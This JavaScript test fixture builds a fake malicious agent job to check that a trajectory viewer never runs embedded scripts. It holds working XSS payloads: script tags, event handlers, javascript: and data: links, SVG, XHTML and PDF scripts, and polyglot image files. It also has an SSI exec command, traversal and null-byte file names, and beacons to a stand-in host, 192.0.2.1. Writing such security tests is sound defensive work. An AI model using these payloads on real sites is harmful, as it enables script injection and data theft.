// Records of a job whose agent means harm: files that would run a script if a
// server or a browser took them for what they say they are, and texts that
// would if a page did not escape them. Every script reports to the same place.
import { cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";

import { scripted } from "./site.mjs";

/** What no page and no request may ever show. */
export const canary = "canary-hit";

const script = `window["${canary}"]=1;document.title="${canary}";new Image().src="/${canary}";fetch("http://192.0.2.1/${canary}");alert("${canary}");location="/${canary}"`;
const html = `<!doctype html><html><body><script>${script}</script><img src=x onerror='${script}'><iframe src="javascript:${script.replaceAll('"', "&quot;")}"></iframe><form action="http://192.0.2.1/"><button autofocus onfocus='${script}'>x</button></form><meta http-equiv="refresh" content="0;url=/${canary}"></body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject></svg>`;
const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script}</script></body></html>`;
const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></a>`;
const mht = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert("${canary}"))>>>>endobj\ntrailer<</Root 1 0 R>>\n`;

/** The files by name. @type {Record<string, string>} */
export const files = {
  "report.html": html,
  "Report.HTML": html + "<!-- other -->",
  "chart.svg": svg,
  "page.xhtml": xhtml,
  "data.xml": xml,
  "saved.mht": mht,
  "run.js": script,
  "look.css": `body{background:url(http://192.0.2.1/${canary})} /* ${html} */`,
  "notes.txt": html,
  "notes": html,
  "report.htm.bak": html,
  "shell.php": `<?php echo '${canary}'; ?>${html}`,
  "page.shtml": `<!--#exec cmd="id" -->${html}`,
  ".htaccess": `AddType text/html .txt\n# ${canary}`,
  "index.html": html,
  "_config.yml": `include: [".htaccess"]\n# ${canary}`,
  "front.txt": `---\npermalink: /evil.html\n---\n${html}`,
  "answer.json": JSON.stringify({ html }),
  "100%.html": html,
  "%2e%2e%2fup.html": html,
  "%00.html": html,
  "a#b?c=d;e&f.html": html,
  "new\nline.html": html,
  '"><script>document.title=1<script>.txt': html,
  "\u202elmth.txt": html,
  "\u001b[31mred.html": html,
  "con.html": html,
  "trailing.html.": html,
  [`${"long".repeat(60)}.html`]: html,
};

/** What is called a picture: a true one, two that are also something else, and pages. */
const pictures = (png) => ({
  "images/board.png": png,
  "images/polyglot.gif": Buffer.from(`GIF89a=1;/*${canary}*/${script}`),
  "images/polyglot.jpg": Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x40, 0x00]), Buffer.from(html)]),
  "images/page.png": Buffer.from(html),
  "images/drawing.webp": Buffer.from(svg),
  "images/sound.mp3": Buffer.from(html),
});

/** Texts as a model may write them. */
const messages = [
  html,
  `[a](javascript:${encodeURIComponent(script)}) [b](JaVaScRiPt:alert\`1\`) <javascript:alert(1)> ![c](data:text/html;base64,${btoa(html)}) ![d](http://192.0.2.1/${canary}.png)`,
  `\u001b]8;;javascript:alert("${canary}")\u0007link\u001b]8;;\u0007 \u001b[31mred\u001b[0m \u202etxt.exe\u202c zero\u200bwidth`,
  `</script></style></textarea></title>--></div><script>${script}</script>`,
  "```html\n" + html + "\n```\n\n| a | b |\n|---|---|\n| " + html.replaceAll("|", "") + " | x |",
  `{"a": ${JSON.stringify(html)}}`,
];

const job = "2026-01-10__10-00-00";
const trial = "draw-board__has0001";

/** Writes the job below dir and returns its path. */
export function writeJob(dir) {
  const from = path.join(scripted, "harbor", job);
  const to = path.join(dir, job);
  cpSync(from, to, { recursive: true });
  const agent = path.join(to, trial, "agent");
  const artifacts = path.join(to, trial, "artifacts");
  mkdirSync(artifacts);
  for (const [name, body] of Object.entries(files)) writeFileSync(path.join(artifacts, name), body);
  const shown = pictures(readFileSync(path.join(agent, "images", "board.png")));
  for (const [name, body] of Object.entries(shown)) writeFileSync(path.join(agent, name), body);
  const at = path.join(agent, "trajectory.json");
  const trace = JSON.parse(readFileSync(at, "utf8"));
  const content = [...messages.map((text) => ({ type: "text", text })), ...Object.keys(shown).map(part)];
  trace.steps[2].observation.results[0].content = content;
  trace.steps.push(...messages.map((message, i) => ({ step_id: 5 + i, source: "agent", message, reasoning_content: message })));
  writeFileSync(at, JSON.stringify(trace));
  return to;
}

function part(name) {
  if (name.endsWith(".mp3")) return { type: "audio", source: { media_type: "audio/mpeg", path: name } };
  const kind = { png: "png", gif: "gif", jpg: "jpeg", webp: "webp" }[name.split(".").pop()];
  return { type: "image", source: { media_type: `image/${kind}`, path: name } };
}
